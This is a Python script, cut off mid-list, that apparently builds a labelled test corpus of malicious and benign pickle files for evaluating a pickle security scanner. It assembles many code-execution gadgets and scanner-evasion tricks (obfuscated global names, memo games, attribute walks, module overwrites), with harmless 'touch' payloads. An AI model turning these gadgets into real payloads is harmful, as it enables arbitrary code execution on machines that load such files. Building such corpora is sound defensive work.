#!/usr/bin/env python3
"""Held-out evaluation corpus for PickleBuildGuard (bare pickle streams only).

Usage:  /usr/bin/python3 tools/eval/make_heldout.py /tmp/heldout

Writes OUT/malicious/*.pkl, OUT/benign/*.pkl and OUT/labels.tsv (path, label, technique, description).
Nothing malicious is ever unpickled here: malicious files are written with pickle.dumps of __reduce__ objects
or assembled opcode by opcode. Payloads are harmless: `touch /tmp/pbg_eval_<name>` (shell) or Python code that
creates the same file. Benign files are real objects pickled with pickle.dumps (a few with dill/cloudpickle).

Techniques whose name starts with `nested-data` are inert data (a benign dict carrying an encoded malicious
pickle that nothing loads); `default-deny` samples call harmless but unlisted callables (the scanner's policy
says block). Both are labelled malicious but reported separately by run_eval.py.
"""
import base64
import binascii
import bz2
import collections
import datetime
import decimal
import enum
import fractions
import gzip
import io
import ipaddress
import lzma
import os
import pathlib
import pickle
import random
import re
import struct
import sys
import types
import uuid
import warnings
import zlib

warnings.filterwarnings("ignore")

OUT = None
LABELS = []


# ----------------------------------------------------------------------------------------------------------
# opcode assembler
# ----------------------------------------------------------------------------------------------------------
def u(s):
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def su(s):
    b = s.encode("utf-8")
    return b"\x8c" + bytes([len(b)]) + b


def u8(s):
    b = s.encode("utf-8")
    return b"\x8d" + struct.pack("<Q", len(b)) + b


def sbs(s):  # SHORT_BINSTRING
    b = s.encode("latin-1")
    return b"U" + bytes([len(b)]) + b


def bs(s):  # BINSTRING
    b = s.encode("latin-1")
    return b"T" + struct.pack("<i", len(b)) + b


def sbb(b):  # SHORT_BINBYTES / BINBYTES
    return (b"C" + bytes([len(b)]) + b) if len(b) < 256 else (b"B" + struct.pack("<I", len(b)) + b)


def S0(raw):  # protocol-0 STRING with the exact text between quotes
    return b"S'" + raw.encode("latin-1") + b"'\n"


def V0(raw):  # protocol-0 UNICODE, raw-unicode-escape text
    return b"V" + raw.encode("latin-1") + b"\n"


def I0(n):
    return b"I" + str(n).encode() + b"\n"


def bi(n):
    if 0 <= n < 256:
        return b"K" + bytes([n])
    if 0 <= n < 65536:
        return b"M" + struct.pack("<H", n)
    return b"J" + struct.pack("<i", n)


def g(m, n):
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def sg(m, n):
    return su(m) + su(n) + b"\x93"


def binput(i):
    return b"q" + bytes([i]) if i < 256 else b"r" + struct.pack("<I", i)


def binget(i):
    return b"h" + bytes([i]) if i < 256 else b"j" + struct.pack("<I", i)


def frame(body):
    return b"\x95" + struct.pack("<Q", len(body)) + body


P0 = b""
P1 = b""
P2 = b"\x80\x02"
P3 = b"\x80\x03"
P4 = b"\x80\x04"
P5 = b"\x80\x05"
PROTO = {0: P0, 1: P1, 2: P2, 3: P3, 4: P4, 5: P5}
MARK, TUPLE, T1, T2, T3, ET = b"(", b"t", b"\x85", b"\x86", b"\x87", b")"
REDUCE, BUILD, STOP, POP, POP_MARK, DUP, NONE = b"R", b"b", b".", b"0", b"1", b"2", b"N"
EMPTY_DICT, EMPTY_LIST, EMPTY_SET = b"}", b"]", b"\x8f"
SETITEM, SETITEMS, APPEND, APPENDS, ADDITEMS = b"s", b"u", b"a", b"e", b"\x90"
NEWOBJ, NEWOBJ_EX, MEMOIZE = b"\x81", b"\x92", b"\x94"


def call(f, *args):
    return f + MARK + b"".join(args) + TUPLE + REDUCE


def d(**kw):
    return EMPTY_DICT + MARK + b"".join(u(k) + v for k, v in kw.items()) + SETITEMS


def lst(*items):
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def ns():
    return call(g("types", "SimpleNamespace"))


def embed(obj):
    """Opcodes that rebuild obj, without PROTO/STOP, to splice into a hand-made pickle (protocol 2, no frames)."""
    import pickletools
    body = pickletools.optimize(pickle.dumps(obj, protocol=2, fix_imports=False))
    assert body[:2] == b"\x80\x02" and body[-1:] == b"."
    return body[2:-1]


def tmpfile(name):
    return "/tmp/pbg_eval_" + name


def sh(name):
    return "touch " + tmpfile(name)


def py(name):
    return "open(%r,'w').close()" % tmpfile(name)


# ----------------------------------------------------------------------------------------------------------
# registry
# ----------------------------------------------------------------------------------------------------------
def write(label, name, data, technique, desc):
    sub = "malicious" if label == "malicious" else "benign"
    path = os.path.join(OUT, sub, name + ".pkl")
    if os.path.exists(path):
        raise SystemExit("duplicate sample name " + name)
    with open(path, "wb") as f:
        f.write(data)
    LABELS.append((os.path.join(sub, name + ".pkl"), label, technique, desc.replace("\t", " ").replace("\n", " ")))


def mal(name, data, technique, desc):
    write("malicious", name, data, technique, desc)


class R:
    """An object that pickles as func(*args) (optionally with state / list items / state_setter)."""

    def __init__(self, func, args, *extra):
        self.func, self.args, self.extra = func, args, extra

    def __reduce__(self):
        return (self.func, self.args) + tuple(self.extra)

    def __call__(self, *a, **k):  # only so that the pickler accepts an R as a callable; never called
        raise RuntimeError("not to be called")


def check_attr(module, dotted):
    """The walk a loader would do (import + getattr only, nothing is called)."""
    import importlib
    o = importlib.import_module(module)
    for part in dotted.split("."):
        o = getattr(o, part)
    return o


def dumps(obj, proto):
    return pickle.dumps(obj, protocol=proto)


# ----------------------------------------------------------------------------------------------------------
# malicious
# ----------------------------------------------------------------------------------------------------------
def make_malicious():
    import subprocess, shutil, tempfile, operator, functools, itertools, threading, code, runpy, atexit, signal
    import importlib, socket, smtplib, ftplib, xmlrpc.client, zipfile, tarfile, pydoc, ctypes, gc, copyreg
    import multiprocessing, concurrent.futures, webbrowser, platform
    import numpy, pandas

    protos = [0, 1, 2, 3, 4, 5]

    # ---- A. direct gadgets pickled by pickle.dumps (function referenced by module + name) ----------------------
    direct = [
        ("os_spawnlp", os.spawnlp, lambda n: (os.P_WAIT, "sh", "sh", "-c", sh(n))),
        ("os_spawnvp", os.spawnvp, lambda n: (os.P_WAIT, "sh", ["sh", "-c", sh(n)])),
        ("os_execlp", os.execlp, lambda n: ("sh", "sh", "-c", sh(n))),
        ("os_execvpe", os.execvpe, lambda n: ("sh", ["sh", "-c", sh(n)], {})),
        ("posix_spawnp", os.posix_spawnp, lambda n: ("sh", ["sh", "-c", sh(n)], {})),
        ("posix_spawn", os.posix_spawn, lambda n: ("/bin/sh", ["sh", "-c", sh(n)], {})),
        ("subprocess_call", subprocess.call, lambda n: (["sh", "-c", sh(n)],)),
        ("subprocess_run", subprocess.run, lambda n: (["sh", "-c", sh(n)],)),
        ("subprocess_check_call", subprocess.check_call, lambda n: (["sh", "-c", sh(n)],)),
        ("subprocess_getstatusoutput", subprocess.getstatusoutput, lambda n: (sh(n),)),
        ("os_popen_p0", os.popen, lambda n: (sh(n),)),
        ("pty_spawn_list", __import__("pty").spawn, lambda n: (["sh", "-c", sh(n)],)),
        ("pydoc_pager", pydoc.pager, lambda n: ("pbg-eval",)),
        ("pydoc_tempfilepager", pydoc.tempfilepager, lambda n: ("pbg-eval", sh(n) + " #")),
        ("runpy_run_path", runpy.run_path, lambda n: (tmpfile(n) + ".py",)),
        ("runpy_run_module", runpy.run_module, lambda n: ("pbg_eval_module",)),
        ("importlib_import_module_os", importlib.import_module, lambda n: ("os",)),
        ("builtins_import_subprocess", __import__, lambda n: ("subprocess",)),
        ("builtins_exec", exec, lambda n: (py(n),)),
        ("builtins_eval_import", eval, lambda n: ("__import__('os').system(%r)" % sh(n),)),
        ("builtins_compile", compile, lambda n: (py(n), "<x>", "exec")),
        ("shutil_copyfile", shutil.copyfile, lambda n: ("/etc/hostname", tmpfile(n))),
        ("shutil_move", shutil.move, lambda n: (tmpfile(n) + "_a", tmpfile(n))),
        ("shutil_chown", shutil.chown, lambda n: (tmpfile(n), None, None)),
        ("tempfile_mkstemp", tempfile.mkstemp, lambda n: ("", "pbg_eval_")),
        ("tempfile_mkdtemp", tempfile.mkdtemp, lambda n: ("", "pbg_eval_")),
        ("os_remove", os.remove, lambda n: (tmpfile(n),)),
        ("os_rename", os.rename, lambda n: (tmpfile(n) + "_a", tmpfile(n))),
        ("os_chmod", os.chmod, lambda n: (tmpfile(n), 0o777)),
        ("os_putenv", os.putenv, lambda n: ("LD_PRELOAD", tmpfile(n) + ".so")),
        ("os_kill", os.kill, lambda n: (1, 0)),
        ("os_fork", os.fork, lambda n: ()),
        ("os_makedirs", os.makedirs, lambda n: (tmpfile(n),)),
        ("os_symlink", os.symlink, lambda n: ("/etc/passwd", tmpfile(n))),
        ("atexit_register_system", atexit.register, lambda n: (os.system, sh(n))),
        ("signal_signal", signal.signal, lambda n: (signal.SIGUSR1, signal.SIG_IGN)),
        ("signal_alarm", signal.alarm, lambda n: (1,)),
        ("sys_settrace", sys.settrace, lambda n: (print,)),
        ("sys_setprofile", sys.setprofile, lambda n: (print,)),
        ("sys_setrecursionlimit", sys.setrecursionlimit, lambda n: (50,)),
        ("gc_get_objects", gc.get_objects, lambda n: ()),
        ("ctypes_cdll_loadlibrary", ctypes.cdll.LoadLibrary, lambda n: (tmpfile(n) + ".so",)),
        ("ctypes_cdll_class", ctypes.CDLL, lambda n: ("libc.so.6",)),
        ("socket_create_server", socket.create_server, lambda n: (("127.0.0.1", 0),)),
        ("socket_getaddrinfo", socket.getaddrinfo, lambda n: ("pbg-eval.invalid", 80)),
        ("smtplib_smtp", smtplib.SMTP, lambda n: ("127.0.0.1", 9)),
        ("ftplib_ftp", ftplib.FTP, lambda n: ("127.0.0.1",)),
        ("xmlrpc_serverproxy", xmlrpc.client.ServerProxy, lambda n: ("http://127.0.0.1:9/",)),
        ("webbrowser_open_new", webbrowser.open_new, lambda n: ("http://127.0.0.1:9/",)),
        ("zipfile_zipfile", zipfile.ZipFile, lambda n: (tmpfile(n) + ".zip", "w")),
        ("tarfile_open", tarfile.open, lambda n: (tmpfile(n) + ".tar", "w")),
        ("platform_architecture", platform.architecture, lambda n: ("/bin/sh",)),
        ("numpy_fromfile", numpy.fromfile, lambda n: ("/etc/passwd", numpy.uint8)),
        ("numpy_loadtxt", numpy.loadtxt, lambda n: ("/etc/hostname", str)),
        ("numpy_genfromtxt", numpy.genfromtxt, lambda n: ("/etc/hostname",)),
        ("numpy_save", numpy.save, lambda n: (tmpfile(n) + ".npy", [1, 2, 3])),
        ("numpy_memmap", numpy.memmap, lambda n: (tmpfile(n), numpy.uint8, "w+", 0, (16,))),
        ("pandas_eval", pandas.eval, lambda n: ("1+1",)),
        ("pandas_read_json", pandas.read_json, lambda n: ("http://127.0.0.1:9/x.json",)),
        ("pandas_read_pickle", pandas.read_pickle, lambda n: (tmpfile(n) + ".pkl",)),
        ("pandas_read_table", pandas.read_table, lambda n: ("/etc/passwd",)),
    ]
    for i, (name, f, args) in enumerate(direct):
        p = protos[i % 6] if not name.endswith("_p0") else 0
        try:
            data = dumps(R(f, args(name)), p)
        except Exception:
            data = dumps(R(f, args(name)), 4)
            p = 4
        mal("direct_%s_p%d" % (name, p), data, "gadget-direct",
            "pickle.dumps(protocol=%d) of a __reduce__ calling %s.%s" % (p, getattr(f, "__module__", "?"), getattr(f, "__qualname__", getattr(f, "__name__", "?"))))

    # torch / sklearn / joblib / scipy / xgboost loaders and process launchers
    import torch, torch.hub, torch.jit, sklearn.datasets, joblib, scipy.io
    ml = [
        ("torch_hub_load", torch.hub.load, lambda n: ("pbg/eval", "model")),
        ("torch_hub_download", torch.hub.download_url_to_file, lambda n: ("http://127.0.0.1:9/x", tmpfile(n))),
        ("torch_jit_load", torch.jit.load, lambda n: (tmpfile(n) + ".pt",)),
        ("torch_load_path", torch.load, lambda n: (tmpfile(n) + ".pt",)),
        ("sklearn_fetch_openml", sklearn.datasets.fetch_openml, lambda n: ("pbg-eval",)),
        ("sklearn_load_svmlight", sklearn.datasets.load_svmlight_file, lambda n: (tmpfile(n),)),
        ("joblib_load_path", joblib.load, lambda n: (tmpfile(n) + ".joblib",)),
        ("joblib_dump", joblib.dump, lambda n: ([1], tmpfile(n) + ".joblib")),
        ("joblib_parallel", joblib.Parallel, lambda n: (2,)),
        ("scipy_io_loadmat", scipy.io.loadmat, lambda n: (tmpfile(n) + ".mat",)),
    ]
    for i, (name, f, args) in enumerate(ml):
        p = [2, 4, 5][i % 3]
        mal("ml_%s_p%d" % (name, p), dumps(R(f, args(name)), p), "gadget-ml-library",
            "pickle.dumps(protocol=%d) of a __reduce__ calling %s.%s" % (p, f.__module__, getattr(f, "__qualname__", f.__name__)))

    # hand-assembled ML-library gadgets (names the pickler would spell differently)
    mal("ml_torch_fx_reduce_graph_module", P4 + call(sg("torch.fx.graph_module", "reduce_graph_module"), d(), u("import os; os.system(%r)" % sh("fx"))) + STOP,
        "gadget-ml-library", "torch.fx.graph_module.reduce_graph_module(body, import_block): exec()s import_block (real torch GraphModule pickling path).")
    mal("ml_numpy_f2py_compile", P2 + call(g("numpy.f2py", "compile"), sbb(b"x"), u("m"), u("--help-fcompiler")) + STOP,
        "gadget-ml-library", "numpy.f2py.compile runs a compiler subprocess.")
    mal("ml_pandas_dataframe_query_unbound", P4 + call(sg("pandas", "DataFrame.query"), call(g("pandas", "DataFrame")), u("@pickle.sys")) + STOP,
        "gadget-ml-library", "Unbound pandas DataFrame.query(df, expr): pandas expressions resolve @names from the caller's frame and can call attributes.")
    mal("ml_pandas_computation_eval_path", P4 + call(sg("pandas.core.computation.eval", "eval"), u("1+1")) + STOP,
        "gadget-ml-library", "pandas.core.computation.eval.eval (module-path spelling of pandas.eval).")
    mal("ml_sklearn_utils_testing_assert_run_python", P4 + call(sg("sklearn.utils._testing", "assert_run_python_script"), u(py("skt"))) + STOP,
        "gadget-ml-library", "sklearn.utils._testing.assert_run_python_script runs Python source in a subprocess.")
    mal("ml_torch_utils_cpp_extension_load_inline", P4 + call(sg("torch.utils.cpp_extension", "load_inline"), u("m"), u("int x;")) + STOP,
        "gadget-ml-library", "torch.utils.cpp_extension.load_inline compiles and loads native code.")
    mal("ml_xgboost_core_load_lib", P2 + call(g("xgboost.core", "_load_lib")) + STOP,
        "gadget-ml-library", "xgboost.core._load_lib loads a native library.")

    # ---- B. chains: attribute access, consumers, wrappers ---------------------------------------------------
    n = "chain_getattr_importlib_os_p4"
    mal(n, dumps(R(R(getattr, (R(importlib.import_module, ("os",)), "system")), (sh(n),)), 4), "chain",
        "getattr(importlib.import_module('os'), 'system')(cmd).")
    n = "chain_getattr_builtins_module_exec_p2"
    mal(n, dumps(R(R(getattr, (R(__import__, ("builtins",)), "exec")), (py(n),)), 2), "chain",
        "getattr(__import__('builtins'), 'exec')(code), protocol 2 (__builtin__ spelling).")
    n = "chain_functools_reduce_exec_p3"
    mal(n, dumps(R(functools.reduce, (exec, [{}], py(n))), 3), "chain", "functools.reduce(exec, [{}], code) calls exec(code, {}).")
    n = "chain_map_list_system_p4"
    mal(n, dumps(R(list, (R(map, (os.system, [sh(n)])),)), 4), "chain", "list(map(os.system, [cmd])): allowed list consumes a map of posix.system.")
    n = "chain_map_list_system_p0"
    mal(n, dumps(R(list, (R(map, (os.system, [sh(n)])),)), 0), "chain", "list(map(os.system, [cmd])) at protocol 0.")
    n = "chain_starmap_list_p5"
    mal(n, dumps(R(list, (R(itertools.starmap, (os.system, [(sh(n),)])),)), 5), "chain", "list(itertools.starmap(os.system, [(cmd,)])).")
    n = "chain_filter_tuple_p2"
    mal(n, dumps(R(tuple, (R(filter, (os.system, [sh(n)])),)), 2), "chain", "tuple(filter(os.system, [cmd])).")
    n = "chain_sorted_key_p4"
    mal(n, P4 + call(g("builtins", "sorted"), lst(u(sh(n)))) + POP + call(g("builtins", "max"), lst(u(sh(n)), u("b"))) + STOP,
        "default-deny", "builtins.sorted / builtins.max invoked (unlisted builtins; harmless here).")
    n = "chain_operator_call_p4"
    mal(n, dumps(R(operator.call, (os.system, sh(n))), 4), "chain", "operator.call(os.system, cmd) (Python 3.11).")
    n = "chain_methodtype_p4"
    mal(n, P4 + call(call(sg("types", "MethodType"), sg("posix", "system"), u(sh(n)))) + STOP, "chain", "types.MethodType(os.system, cmd)() binds the command as self and calls it.")
    n = "chain_copyreg_reconstructor_popen_p2"
    mal(n, P2 + call(g("copy_reg", "_reconstructor"), g("subprocess", "Popen"), g("subprocess", "Popen"), lst(u("sh"), u("-c"), u(sh(n)))) + STOP,
        "chain", "copy_reg._reconstructor(Popen, Popen, argv): base.__init__(obj, argv) starts the process.")
    n = "chain_copyreg_newobj_popen_p4"
    mal(n, P4 + call(sg("copyreg", "__newobj__"), sg("subprocess", "Popen"), lst(u("sh"), u("-c"), u(sh(n)))) + STOP,
        "chain", "copyreg.__newobj__(subprocess.Popen, argv) (instantiates an exec primitive class).")
    n = "chain_thread_start_p4"
    t = call(g("threading", "Thread"), NONE, g("posix", "system"), NONE, u(sh(n)) + T1)
    mal(n, P4 + call(sg("threading", "Thread.start"), t) + STOP, "chain", "threading.Thread(None, posix.system, None, (cmd,)).start().")
    n = "chain_multiprocessing_process_p2"
    t = call(g("multiprocessing.context", "Process"), NONE, g("posix", "system"), NONE, u(sh(n)) + T1)
    mal(n, P4 + call(g("multiprocessing.process", "BaseProcess.start"), t) + STOP, "chain", "multiprocessing Process(target=posix.system).start().")
    n = "chain_thread_pool_submit_p4"
    ex = call(sg("concurrent.futures", "ThreadPoolExecutor"))
    mal(n, P4 + call(sg("concurrent.futures", "ThreadPoolExecutor.submit"), ex, sg("posix", "system"), u(sh(n))) + STOP, "chain",
        "concurrent.futures.ThreadPoolExecutor().submit(posix.system, cmd).")
    n = "chain_code_console_push_p4"
    con = call(sg("code", "InteractiveConsole"))
    mal(n, P4 + call(sg("code", "InteractiveConsole.push"), con, u(py(n))) + STOP, "chain", "code.InteractiveConsole().push(source).")
    n = "chain_code_console_push_getattr_p2"
    mal(n, dumps(R(R(getattr, (R(code.InteractiveConsole, ()), "push")), (py(n),)), 2), "chain",
        "getattr(code.InteractiveConsole(), 'push')(source), protocol 2.")
    n = "chain_socket_connect_p4"
    s = call(sg("socket", "socket"))
    mal(n, P4 + call(sg("socket", "socket.connect"), s, u("127.0.0.1") + bi(9) + T2) + STOP, "chain", "socket.socket().connect(('127.0.0.1', 9)).")
    n = "chain_zipfile_extractall_p4"
    z = call(sg("zipfile", "ZipFile"), u(tmpfile(n) + ".zip"))
    mal(n, P4 + call(sg("zipfile", "ZipFile.extractall"), z, u("/tmp")) + STOP, "chain", "zipfile.ZipFile(path).extractall('/tmp').")
    n = "chain_tarfile_extractall_p2"
    t = call(g("tarfile", "open"), u(tmpfile(n) + ".tar"))
    mal(n, P4 + call(g("tarfile", "TarFile.extractall"), t, u("/")) + STOP, "chain", "tarfile.open(path).extractall('/') (protocol-4 dotted GLOBAL).")
    n = "chain_xmlrpc_method_p4"
    sp = call(sg("xmlrpc.client", "ServerProxy"), u("http://127.0.0.1:9/"))
    mal(n, P4 + call(g("builtins", "getattr"), sp, u("run")) + u(sh(n)) + T1 + REDUCE + STOP, "chain", "getattr(ServerProxy(url), 'run')(cmd): RPC call.")
    n = "chain_sys_modules_get_p4"
    mal(n, P4 + call(call(g("builtins", "getattr"), call(sg("builtins", "dict.get"), sg("sys", "modules"), u("os")), u("system")), u(sh(n))) + STOP,
        "chain", "dict.get(sys.modules, 'os').system(cmd).")
    n = "chain_imp_load_source_p2"
    mal(n, P2 + call(g("imp", "load_source"), u("pbg_eval"), u(tmpfile(n) + ".py")) + STOP, "chain", "imp.load_source(name, path) executes a file.")
    n = "chain_numpy_loadtxt_converters_p4"
    mal(n, P4 + call(sg("numpy", "loadtxt"), u("/etc/hostname"), sg("builtins", "str"), u("#"), NONE, EMPTY_DICT + bi(0) + sg("posix", "system") + SETITEM) + STOP,
        "chain", "numpy.loadtxt(path, str, '#', None, {0: posix.system}): the converter runs each field as a command.")

    # ---- C. Python-2 / compat names ---------------------------------------------------------------------------
    py2 = [
        ("py2_builtin_getattr_import", g("__builtin__", "getattr") + MARK + g("__builtin__", "__import__") + MARK + S0("os") + TUPLE + REDUCE + S0("system") + TUPLE + REDUCE + MARK + S0("%s") + TUPLE + REDUCE,
         "__builtin__.getattr(__builtin__.__import__('os'), 'system')(cmd), protocol 0."),
        ("py2_commands_getstatusoutput", g("commands", "getstatusoutput") + MARK + S0("%s") + TUPLE + REDUCE, "commands.getstatusoutput (Python 2; maps to subprocess)."),
        ("py2_os_popen2", g("os", "popen2") + MARK + S0("%s") + TUPLE + REDUCE, "os.popen2 (Python 2 only)."),
        ("py2_popen2_popen3", g("popen2", "popen3") + MARK + S0("%s") + TUPLE + REDUCE, "popen2.popen3 (Python 2 module)."),
        ("py2_urllib_urlopen", g("urllib", "urlopen") + MARK + S0("http://127.0.0.1:9/%s") + TUPLE + REDUCE, "urllib.urlopen (Python 2 name, compat-mapped to urllib.request.urlopen)."),
        ("py2_urllib2_urlopen", g("urllib2", "urlopen") + MARK + S0("http://127.0.0.1:9/%s") + TUPLE + REDUCE, "urllib2.urlopen (compat module)."),
        ("py2_itertools_imap_list", g("__builtin__", "list") + MARK + g("itertools", "imap") + MARK + g("posix", "system") + MARK + S0("%s") + b"l" + TUPLE + REDUCE + TUPLE + REDUCE,
         "list(itertools.imap(posix.system, [cmd])) (imap compat-maps to builtins.map)."),
        ("py2_builtin_reduce_exec", g("__builtin__", "reduce") + MARK + g("__builtin__", "exec") + MARK + b"(d" + b"l" + S0("%p") + TUPLE + REDUCE, "__builtin__.reduce (compat functools.reduce) of exec."),
        ("py2_builtin_file_write", g("__builtin__", "file") + MARK + S0("/tmp/pbg_eval_py2file") + S0("w") + TUPLE + REDUCE, "__builtin__.file(path, 'w') (Python 2 file builtin)."),
        ("py2_builtin_execfile", g("__builtin__", "execfile") + MARK + S0("/tmp/pbg_eval_py2.py") + TUPLE + REDUCE, "__builtin__.execfile (Python 2)."),
        ("py2_nt_startfile", g("nt", "startfile") + MARK + S0("%s") + TUPLE + REDUCE, "nt.startfile (Windows os implementation)."),
        ("py2_posix_popen", g("posix", "popen") + MARK + S0("%s") + TUPLE + REDUCE, "posix.popen (Python 2 had popen in posix)."),
        ("py2_cpickle_loads_p0_inner", g("cPickle", "loads") + MARK + S0("cposix\\nsystem\\n(S'%s'\\ntR.") + TUPLE + REDUCE, "cPickle.loads of an escaped protocol-0 inner pickle."),
        ("py2_copy_reg_reconstructor_popen", g("copy_reg", "_reconstructor") + MARK + g("subprocess", "Popen") + g("subprocess", "Popen") + b"(" + S0("sh") + S0("-c") + S0("%s") + b"l" + TUPLE + REDUCE,
         "copy_reg._reconstructor(Popen, Popen, argv), protocol 0."),
        ("py2_socketserver_tcpserver", g("SocketServer", "TCPServer") + MARK + MARK + S0("127.0.0.1") + I0(0) + TUPLE + NONE + TUPLE + REDUCE, "SocketServer.TCPServer binds a socket (compat socketserver)."),
        ("py2_httplib_connection", g("httplib", "HTTPConnection") + MARK + S0("127.0.0.1") + TUPLE + REDUCE, "httplib.HTTPConnection (compat http.client)."),
    ]
    for name, body, desc in py2:
        body = body.replace(b"%s", sh(name).encode()).replace(b"%p", py(name).encode())
        mal(name + "_p0", body + STOP, "py2-names", desc)

    # ---- D. STACK_GLOBAL / GLOBAL operand games ---------------------------------------------------------------
    n = "sg_dup_pop_noise"
    mal(n, P4 + su("posix") + DUP + POP + su("system") + DUP + POP + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP, "stack-global-operands", "DUP/POP noise between STACK_GLOBAL operands.")
    n = "sg_memo_255_long"
    mal(n, P4 + su("posix") + binput(255) + POP + su("system") + b"r" + struct.pack("<I", 2**31 - 1) + POP + binget(255) + b"j" + struct.pack("<I", 2**31 - 1) + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP,
        "stack-global-operands", "Operands stored at BINPUT 255 and LONG_BINPUT 2**31-1, fetched back.")
    n = "sg_memoize_in_popped_mark"
    mal(n, P4 + MARK + su("subprocess") + MEMOIZE + su("getoutput") + MEMOIZE + POP_MARK + binget(0) + binget(1) + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP,
        "stack-global-operands", "Operands memoized inside a MARK region discarded by POP_MARK, fetched with BINGET.")
    n = "sg_memo_overwrite_after_use"
    mal(n, P4 + su("collections") + binput(0) + su("OrderedDict") + binput(1) + b"\x93" + POP + su("posix") + binput(0) + POP + su("system") + binput(1) + POP + binget(0) + binget(1) + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP,
        "stack-global-operands", "Memo keys first used for a benign STACK_GLOBAL, then rebound to posix/system and reused.")
    n = "sg_binunicode8_operands"
    mal(n, P4 + u8("posix") + u8("system") + b"\x93" + u8(sh(n)) + T1 + REDUCE + STOP, "stack-global-operands", "STACK_GLOBAL operands from BINUNICODE8.")
    n = "sg_binstring_p4_mixed"
    mal(n, P4 + bs("posix") + sbs("system") + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP, "stack-global-operands", "BINSTRING + SHORT_BINSTRING operands under PROTO 4.")
    n = "sg_string_octal_escape"
    mal(n, S0("p\\157six") + S0("s\\x79stem") + b"\x93" + MARK + S0(sh(n)) + TUPLE + REDUCE + STOP, "stack-global-operands",
        "Protocol-0 STRING operands with octal and hex escapes ('p\\157six', 's\\x79stem') feeding STACK_GLOBAL, no PROTO.")
    n = "sg_unicode_raw_escape"
    mal(n, V0("posi\\u0078") + V0("\\u0073ystem") + b"\x93" + MARK + V0(sh(n)) + TUPLE + REDUCE + STOP, "stack-global-operands",
        "Protocol-0 UNICODE operands with raw-unicode-escape \\u sequences ('posi\\u0078').")
    n = "sg_string_double_quote"
    mal(n, b'S"posix"\nS"system"\n\x93(S"' + sh(n).encode() + b'"\ntR.', "stack-global-operands", "Double-quoted protocol-0 STRING operands.")
    n = "sg_rot13_space_alias"
    mal(n, P4 + call(sg("_codecs", "encode"), u("cbfvk"), u("rot 13")) + call(sg("_codecs", "encode"), u("flfgrz"), u("ROT_13")) + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP,
        "stack-global-operands", "Operands computed by _codecs.encode with the codec spelled 'rot 13' (normalised by CPython).")
    n = "sg_str_from_bytes"
    mal(n, P4 + call(sg("builtins", "str"), sbb(b"posix"), u("ascii")) + call(sg("builtins", "str"), sbb(b"system"), u("ascii")) + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP,
        "stack-global-operands", "Operands computed by the allowed builtins.str(b'posix', 'ascii').")
    n = "sg_ext_operand"
    mal(n, P4 + b"\x82\x07" + su("system") + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP, "stack-global-operands",
        "Module operand from EXT1 7 (needs a pre-populated copyreg extension registry).")
    n = "sg_in_frames_split"
    body1 = su("posix") + binput(0)
    body2 = su("system") + binput(1) + POP + POP + binget(0) + binget(1) + b"\x93" + u(sh(n)) + T1 + REDUCE + STOP
    mal(n, P4 + frame(body1) + frame(body2), "stack-global-operands", "Operands in one FRAME, memo-fetched STACK_GLOBAL in the next.")

    # dotted names through other modules
    dotted = [
        ("argparse", "_os.system"), ("random", "_os.system"), ("curses", "_os.system"), ("enum", "bltns.exec"),
        ("collections", "_sys.modules.get"), ("pprint", "_sys.modules.get"), ("shutil", "os.system"), ("glob", "os.system"),
        ("tempfile", "_os.system"), ("torch", "serialization.os.system"), ("pandas.io.common", "os.system"),
        ("numpy", "lib.npyio.os.system"), ("joblib", "parallel.os.system"), ("pandas.io.clipboard", "subprocess.getoutput"),
        ("jinja2.utils", "os.system"), ("matplotlib", "os.system"), ("xgboost", "core.os.system"), ("crypt", "_sys.modules.get"),
    ]
    for m, nm in dotted:
        check_attr(m, nm)
    for i, (m, nm) in enumerate(dotted):
        n = "dotted_%s_%s" % (m.replace(".", "_"), nm.replace(".", "_"))
        arg = u(py(n)) if nm.endswith("exec") else u(sh(n))
        if nm.endswith("modules.get"):
            body = call(call(g("builtins", "getattr"), call(sg(m, nm), u("os")), u("system")), u(sh(n)))
        elif nm.endswith("stdlib_re.sub"):
            body = call(sg(m, nm), u("x"), sg("posix", "system"), u(sh(n)))
        else:
            body = (sg(m, nm) if i % 2 == 0 else g(m, nm)) + arg + T1 + REDUCE
        mal(n, P4 + body + STOP, "dotted-walk", "Protocol-4 %s %s.%s called (attribute walk through a module attribute)." % ("STACK_GLOBAL" if i % 2 == 0 else "GLOBAL", m, nm))

    # BUILD on modules / classes
    n = "build_module_collections_abc"
    mal(n, P4 + g("collections", "abc") + d(Mapping=g("posix", "system")) + BUILD + POP + NONE + STOP, "build-state", "BUILD overwrites collections.abc.Mapping with posix.system (module reached as attribute).")
    n = "build_module_then_allowed_call"
    mal(n, P4 + sg("numpy", "core") + d(multiarray=sg("random", "_os")) + BUILD + POP + call(sg("numpy.core", "multiarray.system"), u(sh(n))) + STOP,
        "build-state", "BUILD rebinds numpy.core.multiarray to the os module (via random._os), then calls numpy.core multiarray.system.")
    n = "build_class_dunder_reduce"
    mal(n, P4 + sg("collections", "OrderedDict") + NONE + d(__reduce__=sg("posix", "system")) + T2 + BUILD + POP + NONE + STOP, "build-state",
        "BUILD slotstate setattr on collections.OrderedDict.")
    n = "build_enum_bltns_dict"
    mal(n, P4 + sg("enum", "bltns") + d(OrderedDict=sg("enum", "bltns.exec")) + BUILD + POP + NONE + STOP, "build-state",
        "BUILD onto the builtins module reached as enum.bltns.")

    # ---- E. SILENT CHAINS: reference-only callables invoked through BUILD/APPEND/... ----------------------
    silent_callables = [
        ("random_os_system", lambda n: (sg("random", "_os.system"), u(sh(n))), "random._os.system (random imports os as _os)"),
        ("argparse_os_system", lambda n: (g("argparse", "_os.system"), u(sh(n))), "argparse._os.system"),
        ("curses_os_popen", lambda n: (sg("curses", "_os.popen"), u(sh(n))), "curses._os.popen"),
        ("enum_bltns_exec", lambda n: (sg("enum", "bltns.exec"), u(py(n))), "enum.bltns.exec (enum imports builtins as bltns)"),
        ("enum_bltns_eval", lambda n: (g("enum", "bltns.eval"), u("__import__('os').system(%r)" % sh(n))), "enum.bltns.eval"),
    ]
    mechanisms = [
